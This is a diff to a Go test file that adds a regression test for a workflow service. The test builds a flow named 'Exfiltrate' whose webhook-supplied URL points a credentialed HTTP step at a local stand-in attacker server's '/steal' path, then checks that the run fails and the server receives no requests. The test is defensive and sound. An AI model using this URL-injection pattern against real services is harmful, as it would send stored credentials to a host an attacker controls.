@@ -377,6 +377,30 @@ func TestConnectionLifecycle(t *testing.T) {
 	if strings.Contains(string(raw), secret) {
 		t.Fatalf("the Run records the Connection's key: %s", raw)
 	}
+
+	// A step whose URL comes from the webhook cannot take the credential
+	// to another host: the step fails for good and nothing is sent there.
+	var attacked atomic.Int32
+	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { attacked.Add(1) }))
+	defer attacker.Close()
+	var exfil struct{ ID string }
+	r.mustCall(t, 201, "POST", "/v1/groups/grp_dev/flows", map[string]any{"name": "Exfiltrate", "steps": []any{
+		map[string]any{"id": "call", "app": "http", "method": "request", "connectionId": c.ID, "input": map[string]any{"url": "{{ trigger.body.url }}"}}}}, &exfil)
+	var tr2 struct{ URL string }
+	r.mustCall(t, 201, "POST", "/v1/groups/grp_dev/flows/"+exfil.ID+"/http-triggers", map[string]any{"apiKeyIds": []string{k.ID}}, &tr2)
+	status, runID, err = hook(tr2.URL, k.Key, `{"url":"`+attacker.URL+`/steal"}`)
+	if err != nil || status != 202 {
+		t.Fatalf("webhook: %d %v", status, err)
+	}
+	attackHost := strings.TrimPrefix(attacker.URL, "http://")
+	if run := r.waitRun(t, "grp_dev", runID); run.Status != "failed" || len(run.Steps) != 1 || !strings.Contains(run.Steps[0].Error, attackHost) {
+		t.Fatalf("run of a step pointed at another host = %+v, want failed naming %s", run, attackHost)
+	}
+	if n := attacked.Load(); n != 0 {
+		t.Fatalf("the other host got %d requests, want none", n)
+	}
+	r.mustCall(t, 204, "DELETE", "/v1/groups/grp_dev/flows/"+exfil.ID, nil, nil)
+
 	r.mustCall(t, 204, "DELETE", "/v1/groups/grp_dev/flows/"+f.ID+"/http-triggers/"+triggerID(t, r, f.ID), nil, nil)
 	if got := r.call(t, "DELETE", "/v1/groups/grp_dev/connections/"+c.ID, nil, &raw); got != 409 || !strings.Contains(string(raw), "Uses the API") {
 		t.Fatalf("delete of a used connection = %d %s, want 409 naming the Flow", got, raw)
